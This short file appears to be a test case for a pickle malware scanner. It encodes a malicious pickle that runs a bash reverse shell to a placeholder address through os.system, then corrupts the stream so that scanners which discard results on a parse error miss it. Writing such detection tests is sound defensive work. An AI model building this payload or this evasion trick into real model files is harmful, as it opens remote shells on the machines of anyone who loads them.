#! technique 11 nullifAI broken pickle: payload first, then an invalid opcode
#! expect PICKLE-EXEC os.system
#! expect PICKLE-STRUCT
# The reverse shell runs as soon as REDUCE executes; the stream then breaks on
# byte 0xff, so the load raises only after the payload ran. Scanners that
# discard results on a parse error reported nothing.
PROTO 2
GLOBAL "os" "system"
SHORT_BINUNICODE "bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'"
TUPLE1
REDUCE
POP
RAW hex"ff"
